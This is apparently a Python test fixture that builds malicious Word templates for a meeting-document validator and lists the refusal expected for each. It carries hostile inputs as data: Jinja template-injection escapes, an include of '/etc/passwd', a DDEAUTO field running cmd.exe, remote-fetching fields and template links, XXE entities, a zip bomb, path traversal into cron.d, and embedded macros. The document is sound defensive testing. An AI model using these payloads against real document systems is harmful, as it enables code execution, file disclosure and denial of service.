"""Word templates that must not be taken, made in code from the supplied one: what they fetch, run, hide or omit."""

import io
import re
import zipfile

from meetings.choices import PartKind
from meetings.paper_files import supplied
from tests.common.corpus import ENTITIES

KIND = PartKind.GENERAL_ASSEMBLY
BODY, FOOTER, RELATIONS = "word/document.xml", "word/footer1.xml", "word/_rels/document.xml.rels"
TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
DEEP = "(" * 3000 + "1" + ")" * 3000
PICTURE = (
    b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\1\x86\xa0\0\1\x86\xa0\1\0\0\0\0" + b"\0\0\0\0"
)  # a header of 100,000 x 100,000 pixels


def entries(source=None) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(source or supplied(KIND))) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


def packed(parts, comment=b"") -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
        archive.comment = comment
    return stream.getvalue()


def changed(*pairs, part=BODY) -> bytes:
    """The supplied template with pieces of one part replaced; each piece must be there."""
    parts = entries()
    text = parts[part].decode()
    for old, new in pairs:
        assert old in text, old
        text = text.replace(old, new)
    parts[part] = text.encode()
    return packed(parts)


def field(text) -> bytes:
    """The supplied template with the place of the meeting written so."""
    return changed(("{{ place }}", "{{ place }}" + text))


def instruction(code) -> bytes:
    """The supplied template with a field of Word in it, its instruction in two pieces."""
    half = len(code) // 2
    runs = "".join(
        f"<w:r>{piece}</w:r>"
        for piece in (
            '<w:fldChar w:fldCharType="begin"/>', f"<w:instrText>{code[:half]}</w:instrText>",
            f"<w:instrText>{code[half:]}</w:instrText>", '<w:fldChar w:fldCharType="end"/>',
        )
    )  # fmt: skip
    return changed(("<w:body>", f"<w:body><w:p>{runs}</w:p>"))


def element(xml) -> bytes:
    """The supplied template with an element at its beginning."""
    return changed(("<w:body>", f"<w:body><w:p><w:r>{xml}</w:r></w:p>"))


def relation(kind, target, mode="Internal") -> bytes:
    line = f'<Relationship Id="rId99" Type="{TYPES}/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
    return changed(("</Relationships>", line), part=RELATIONS)


def with_part(name, content=b"x") -> bytes:
    return packed({**entries(), name: content})


def macro_enabled() -> bytes:
    old, new = "openxmlformats-officedocument.wordprocessingml.document.main", "ms-word.document.macroEnabled.main"
    return changed((old, new), part="[Content_Types].xml")


def footer(old, new) -> bytes:
    return changed((old, new), part=FOOTER)


def first_page_differs() -> bytes:
    """A first page of its own, without any footer."""
    return changed(("<w:docGrid", "<w:titlePg/><w:docGrid"))


def loop(*pairs) -> bytes:
    return changed(*pairs)


def hidden(name) -> bytes:
    """A needed field that nobody can see."""
    text = entries()[BODY].decode()
    run = re.search(rf"<w:r>(?:(?!<w:r>).)*?\{{\{{ {name} \}}\}}", text, re.DOTALL)[0]
    return changed((run, run.replace("<w:rPr>", "<w:rPr><w:vanish/>")))


def slow() -> bytes:
    """Marks that open ten thousand times and never close."""
    return field("{{ " * 20_000)


# Name, file, code of the refusal, what the refusal must name.
HOSTILE = [
    ("unknown", field("{{ palce }}"), "unknown", "{{ palce }}"),
    ("unknown in footer", footer("{{ footer }}", "{{ footer }}{{ foto }}"), "unknown", "{{ foto }}"),
    ("missing", changed(("{{ absent }}", "")), "missing", "{{ absent }}"),
    ("hidden", hidden("absent"), "missing", "{{ absent }}"),
    ("no number on the pages", footer("{{ footer }}", ""), "each-page", "{{ footer }}"),
    ("no squares on the pages", footer("{{ qr }}", ""), "each-page", "{{ qr }}"),
    ("no page number", footer(" NUMPAGES ", " PAGE "), "each-page", "NUMPAGES"),
    ("bare first page", first_page_differs(), "each-page", "{{ footer }}"),
    ("expression", field("{{ 7*7 }}"), "expression", "{{ 7*7 }}"),
    ("escape", field("{{ ''.__class__.__mro__[1].__subclasses__() }}"), "expression", "__class__"),
    ("call", field("{{ place.upper() }}"), "expression", "{{ place.upper() }}"),
    ("filter", field("{{ place|upper }}"), "expression", "{{ place|upper }}"),
    ("attribute", field("{{ place.__class__ }}"), "expression", "{{ place.__class__ }}"),
    ("condition", field("{% if late %}x{% endif %}"), "expression", "{% if late %}"),
    ("set", field("{% set a = 1 %}"), "expression", "{% set a = 1 %}"),
    ("include", field("{% include '/etc/passwd' %}"), "expression", "{% include '/etc/passwd' %}"),
    ("endless", field("{% for x in range(999999999) %}x{% endfor %}"), "expression", "range(999999999)"),
    ("raw", field("{% raw %}{{ x }}{% endraw %}"), "expression", "{% raw %}"),
    ("comment", field("{# note #}"), "expression", "{# note #}"),
    ("run mark", field("{{r place }}"), "expression", "{{r place }}"),
    ("deep", field("{{ " + DEEP + " }}"), "expression", "{{ ((("),
    ("split mark", field("{</w:t></w:r><w:r><w:t>{ 7*7 }}"), "expression", "{{ 7*7 }}"),
    ("open mark", field("{{ place"), "brace", "{{ place"),
    ("brace", field("{"), "brace", "{"),
    ("slow", slow(), "brace", "{{ {{"),
    ("two loops", loop(("{%tr endfor %}", "{%tr endfor %}{%tr for row in rows %}{%tr endfor %}")), "loop", ""),
    ("no loop", loop(("{%tr for row in rows %}", ""), ("{%tr endfor %}", "")), "loop", ""),
    ("loop backwards", loop(
        ("{%tr for row in rows %}", "@"), ("{%tr endfor %}", "{%tr for row in rows %}"), ("@", "{%tr endfor %}"),
    ), "loop", ""),
    ("loop without text", loop(("{{ row.text }}", "")), "loop", ""),
    ("other loop", loop(("{%tr for row in rows %}", "{%tr for row in rows[:1] %}")), "expression", "rows[:1]"),
    ("mark in attribute", changed(("<w:body>", '<w:body><w:p w:rsidR="{{ 7*7 }}"/>')), "place", "{{ 7*7 }}"),
    ("mark in title", changed(("</dc:title>", "{{ 7*7 }}</dc:title>"), part="docProps/core.xml"), "place", "{{ 7*7 }}"),
    ("mark in settings", changed(("</w:settings>", "<w:x>{{ a }}</w:x></w:settings>"), part="word/settings.xml"),
     "place", "{{ a }}"),
    ("dde", instruction('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'), "fields", "DDEAUTO"),
    ("fetching picture", instruction('INCLUDEPICTURE "http://10.0.0.1/a.png"'), "fields", "INCLUDEPICTURE"),
    ("fetching text", instruction('INCLUDETEXT "\\\\\\\\10.0.0.1\\\\a.docx"'), "fields", "INCLUDETEXT"),
    ("simple field", changed(("<w:body>", '<w:body><w:p><w:fldSimple w:instr="LINK Excel.Sheet"/></w:p>')), "fields",
     "LINK"),
    ("link", relation("hyperlink", "http://10.0.0.1/", "External"), "links", "http://10.0.0.1/"),
    ("remote template", relation("attachedTemplate", "file://10.0.0.1/a.dotm", "External"), "links", "a.dotm"),
    ("remote picture", relation("image", "http://10.0.0.1/a.png", "External"), "links", "a.png"),
    ("drawn link", element('<w:pict><x src="http://10.0.0.1/a" xmlns="urn:x"/></w:pict>'), "links", "10.0.0.1"),
    ("second document", relation("aFChunk", "other.html"), "embedded", "other.html"),
    ("chunk", element('<w:altChunk w:id="1"/>'), "embedded", "altChunk"),
    ("object", element("<w:object/>"), "embedded", "object"),
    ("bound control", element("<w:dataBinding/>"), "embedded", "dataBinding"),
    ("sheet inside", with_part("word/embeddings/book.xlsx"), "embedded", "book.xlsx"),
    ("drawing", with_part("word/media/a.emf"), "embedded", "a.emf"),
    ("revisions", changed(("<w:body>", "<w:body><w:p><w:ins><w:r><w:t>新</w:t></w:r></w:ins></w:p>")), "revisions",
     "新"),
]  # fmt: skip
# Files that are refused whole, by the reasons of attachments.
BROKEN = [
    ("ole object", with_part("word/embeddings/oleObject1.bin"), "macros"),
    ("macros", with_part("word/vbaProject.bin"), "macros"),
    ("macro enabled", macro_enabled(), "macros"),
    ("control", with_part("word/activeX/activeX1.xml", b"<x/>"), "macros"),
    ("program", with_part("word/media/setup.exe"), "program"),
    ("entities", packed({**entries(), BODY: ENTITIES + b"<x>&j;</x>"}), "entities"),
    ("outward entity", packed({
        **entries(), BODY: b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'}), "entities"),
    ("zip bomb", with_part("word/media/a.xml", b"0" * 100 * 1024 * 1024), "bomb"),
    ("huge picture", with_part("word/media/a.png", PICTURE), "damaged"),
    ("climbing", with_part("../../etc/cron.d/x"), "damaged"),
    ("not xml", packed({**entries(), BODY: b"no document"}), "damaged"),
    ("half", supplied(KIND)[:3000], "damaged"),
    ("tail", packed(entries(), b"tail"), "kind"),
    ("text", "会议记录".encode(), "damaged"),
    ("workbook", packed({"[Content_Types].xml": b"<x/>", "xl/workbook.xml": b"<x/>"}), "archive"),
]  # fmt: skip
